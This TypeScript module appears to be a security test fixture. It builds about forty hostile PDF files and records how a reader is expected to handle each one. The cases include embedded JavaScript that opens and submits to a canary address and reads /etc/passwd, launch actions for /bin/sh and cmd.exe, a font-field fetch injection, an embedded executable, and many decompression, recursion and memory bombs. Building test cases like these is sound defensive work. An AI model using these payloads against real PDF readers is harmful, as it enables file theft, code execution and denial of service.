import { deflateSync } from "node:zlib";
import type { HostileFile } from "./hostile-file.ts";
import { packedRepeats } from "./zip-writer.ts";

const page = (more = "", contents = "4 0 R") =>
  `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> /Contents ${contents} ${more} >>`;
const font = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>";
const text = "BT /F1 12 Tf 72 700 Td (Harmless words stand here.) Tj ET";

/** Objects 1 to 5 of a good file with one page; others take their place or follow. */
function pdf(objects: Record<number, string | Buffer> = {}, trailer = ""): Buffer {
  const all: Record<number, string | Buffer> = {
    1: "<< /Type /Catalog /Pages 2 0 R >>",
    2: "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    3: page(),
    4: stream(text),
    5: font,
    ...objects,
  };
  const parts: Buffer[] = [Buffer.from("%PDF-1.7\n")];
  const offsets: string[] = [];
  let offset = parts[0]!.length;
  for (const [number, object] of Object.entries(all)) {
    const part = Buffer.concat([
      Buffer.from(`${number} 0 obj `),
      Buffer.from(object as string),
      Buffer.from(" endobj\n"),
    ]);
    offsets.push(`${number} 1\n${String(offset).padStart(10, "0")} 00000 n \n`);
    parts.push(part);
    offset += part.length;
  }
  const size = Math.max(...Object.keys(all).map(Number)) + 1;
  const end = `xref\n0 1\n0000000000 65535 f \n${offsets.join("")}trailer << /Size ${size} /Root 1 0 R ${trailer} >>\nstartxref\n${offset}\n%%EOF\n`;
  return Buffer.concat([...parts, Buffer.from(end)]);
}

function stream(content: string | Buffer, dictionary = ""): Buffer {
  const bytes = Buffer.from(content as string);
  return Buffer.concat([
    Buffer.from(`<< /Length ${bytes.length} ${dictionary} >> stream\n`),
    bytes,
    Buffer.from("\nendstream"),
  ]);
}

/** Content of that many MiB, packed. */
const blanks = (mebibytes: number) => {
  const packed = packedRepeats(Buffer.alloc(1 << 20, 32), mebibytes);
  return stream(Buffer.concat([Buffer.from([0x78, 0x9c]), packed]), "/Filter /FlateDecode");
};

const picture = (width: number, height: number, filter: string, data: Buffer = Buffer.alloc(64, 0xff)) => ({
  3: page(`/Resources << /Font << /F1 5 0 R >> /XObject << /I 6 0 R >> >>`),
  4: stream(`${text} q 500 0 0 500 0 0 cm /I Do Q`),
  6: stream(
    data,
    `/Type /XObject /Subtype /Image /Width ${width} /Height ${height} /BitsPerComponent 8 /ColorSpace /DeviceRGB ${filter}`,
  ),
});

/** PDF files made to run code, to never end, or to fill the memory (T-32). `canary`: an address that must not be opened. */
export function makeHostilePdfs(canary: string): HostileFile[] {
  const script = `app.launchURL("${canary}"); this.submitForm("${canary}"); util.readFileIntoStream("/etc/passwd");`;
  const action = `<< /S /JavaScript /JS (${script.replaceAll("(", "\\(").replaceAll(")", "\\)")}) >>`;
  const good = pdf();
  const cases: [string, Buffer, HostileFile["outcome"]][] = [
    ["open-action", pdf({ 1: `<< /Type /Catalog /Pages 2 0 R /OpenAction ${action} >>` }), "read"],
    ["page-action", pdf({ 3: page(`/AA << /O ${action} /C ${action} >>`) }), "read"],
    [
      "named-scripts",
      pdf({ 1: `<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript << /Names [(a) ${action}] >> >> >>` }),
      "read",
    ],
    [
      "launch",
      pdf({ 1: "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >> >> >>" }),
      "read",
    ],
    ["uri", pdf({ 1: `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (${canary}) >> >>` }), "read"],
    [
      "submit-form",
      pdf({ 1: `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /SubmitForm /F << /FS /URL /F (${canary}) >> >> >>` }),
      "read",
    ],
    [
      "goto-remote",
      pdf({ 1: "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoToR /F (/etc/passwd) /D [0 /Fit] >> >>" }),
      "read",
    ],
    ["external-stream", pdf({ 4: "<< /Length 0 /F (/etc/passwd) >> stream\n\nendstream" }), "refused"],
    [
      "font-matrix",
      pdf({
        5: `<< /Type /Font /Subtype /Type1 /BaseFont /X /FontMatrix [1 2 3 4 5 (0\\); fetch\\('${canary}'\\)//)] >>`,
      }),
      "either",
    ],
    [
      "xfa",
      pdf({
        1: "<< /Type /Catalog /Pages 2 0 R /AcroForm << /XFA 6 0 R /Fields [] >> >>",
        6: stream(`<xdp><script>${script}</script></xdp>`),
      }),
      "read",
    ],
    [
      "embedded-file",
      pdf({
        1: "<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(x.exe) 6 0 R] >> >> >>",
        6: "<< /Type /Filespec /F (x.exe) /EF << /F 7 0 R >> >>",
        7: stream("MZ"),
      }),
      "read",
    ],
    ["pages-claimed", pdf({ 2: "<< /Type /Pages /Kids [3 0 R] /Count 100000 >>" }), "refused"],
    ["pages-shared", pdf({ 2: `<< /Type /Pages /Kids [${"3 0 R ".repeat(100_000)}] /Count 100000 >>` }), "refused"],
    ["pages-negative", pdf({ 2: "<< /Type /Pages /Kids [3 0 R] /Count -5 >>" }), "either"],
    ["page-tree-cycle", pdf({ 2: "<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>" }), "either"],
    ["page-tree-deep", pdf(deepTree(20_000)), "either"],
    [
      "object-stream-loop",
      pdf({
        6: stream("7 0 << >>", "/Type /ObjStm /N 1 /First 4 /Extends 6 0 R"),
        3: "<< /Type /Page /Parent 2 0 R /Contents 7 0 R >>",
      }),
      "refused",
    ],
    ["length-loop", pdf({ 4: "<< /Length 4 0 R >> stream\nx\nendstream" }), "refused"],
    [
      "form-loop",
      pdf({
        3: page("/Resources << /XObject << /X 6 0 R >> >>"),
        4: stream("/X Do"),
        6: stream(
          "/X Do /X Do",
          "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>",
        ),
      }),
      "refused",
    ],
    ["forms-doubling", pdf(doublingForms(40)), "either"],
    [
      "previous-loop",
      Buffer.from(
        good.toString("latin1").replace("/Root 1 0 R", `/Root 1 0 R /Prev ${good.lastIndexOf("xref\n0 1")}`),
        "latin1",
      ),
      "either",
    ],
    [
      "huge-picture",
      pdf(picture(100_000, 100_000, "/Filter /FlateDecode", deflateSync(Buffer.alloc(30 << 20), { level: 9 }))),
      "read",
    ],
    ["jbig2", pdf(picture(60_000, 60_000, "/Filter /JBIG2Decode")), "read"],
    ["jpx", pdf(picture(65_000, 65_000, "/Filter /JPXDecode")), "read"],
    ["jpeg", pdf(picture(65_000, 65_000, "/Filter /DCTDecode")), "read"],
    [
      "filters",
      pdf({ 4: stream(deflateSync(Buffer.from(text)), `/Filter [${"/FlateDecode ".repeat(10_000)}]`) }),
      "either",
    ],
    ["content-bomb", pdf({ 4: blanks(2048) }), "either"],
    ["deep-arrays", pdf({ 6: `${"[".repeat(500_000)}${"]".repeat(500_000)}`, 3: page("/X 6 0 R") }), "either"],
    ["deep-dictionaries", pdf({ 3: page(`/X ${"<< /A ".repeat(200_000)} 1 ${">>".repeat(200_000)}`) }), "either"],
    ["huge-string", pdf({ 4: stream(`BT /F1 12 Tf 72 700 Td (${"x".repeat(20 << 20)}) Tj ET`) }), "either"],
    ["huge-name", pdf({ 3: page(`/${"N".repeat(5 << 20)} 1`) }), "either"],
    ["many-words", pdf({ 4: stream(`BT /F1 1 Tf ${"1 1 Td (ab) Tj ".repeat(300_000)} ET`) }), "either"],
    ["saves", pdf({ 4: stream(`${"q ".repeat(1_000_000)}${text}`) }), "either"],
    ["huge-page", pdf({ 3: page("/MediaBox [0 0 1e30 1e30] /UserUnit 1e9") }), "either"],
    [
      "encrypted",
      pdf(
        { 6: `<< /Filter /Standard /V 2 /R 3 /Length 128 /P -1 /O (${"x".repeat(32)}) /U (${"y".repeat(32)}) >>` },
        "/Encrypt 6 0 R /ID [(a) (a)]",
      ),
      "refused",
    ],
    ["encrypted-unknown", pdf({ 6: "<< /Filter /Evil /V 99 >>" }, "/Encrypt 6 0 R /ID [(a) (a)]"), "refused"],
    ["truncated", good.subarray(0, 120), "refused"],
    ["truncated-later", good.subarray(0, good.length - 60), "either"],
    [
      "offsets-wrong",
      Buffer.from(good.toString("latin1").replace(/\d{10} 00000 n/g, "9999999999 00000 n"), "latin1"),
      "either",
    ],
    ["header-only", Buffer.from("%PDF-1.7\n"), "refused"],
    ["zeros-after-header", Buffer.concat([Buffer.from("%PDF-1.7\n"), Buffer.alloc(5 << 20)]), "refused"],
  ];
  return cases.map(([name, bytes, outcome]) => ({ name: `${name}.pdf`, bytes, outcome }));
}

function deepTree(levels: number): Record<number, string> {
  const objects: Record<number, string> = { 2: "<< /Type /Pages /Kids [10 0 R] /Count 1 >>" };
  for (let i = 0; i < levels; i++) {
    const next = i === levels - 1 ? 3 : 11 + i;
    objects[10 + i] = `<< /Type /Pages /Parent ${i === 0 ? 2 : 9 + i} 0 R /Kids [${next} 0 R] /Count 1 >>`;
  }
  return objects;
}

/** Each form draws the next one twice: 2^levels drawings. */
function doublingForms(levels: number): Record<number, string | Buffer> {
  const objects: Record<number, string | Buffer> = {
    3: page("/Resources << /Font << /F1 5 0 R >> /XObject << /X 10 0 R >> >>"),
    4: stream(`${text} /X Do`),
  };
  for (let i = 0; i < levels; i++) {
    const inner = i === levels - 1 ? text : "/X Do /X Do";
    const dictionary = `/Type /XObject /Subtype /Form /BBox [0 0 600 900] /Resources << /Font << /F1 5 0 R >> /XObject << /X ${11 + i} 0 R >> >>`;
    objects[10 + i] = stream(inner, dictionary);
  }
  return objects;
}
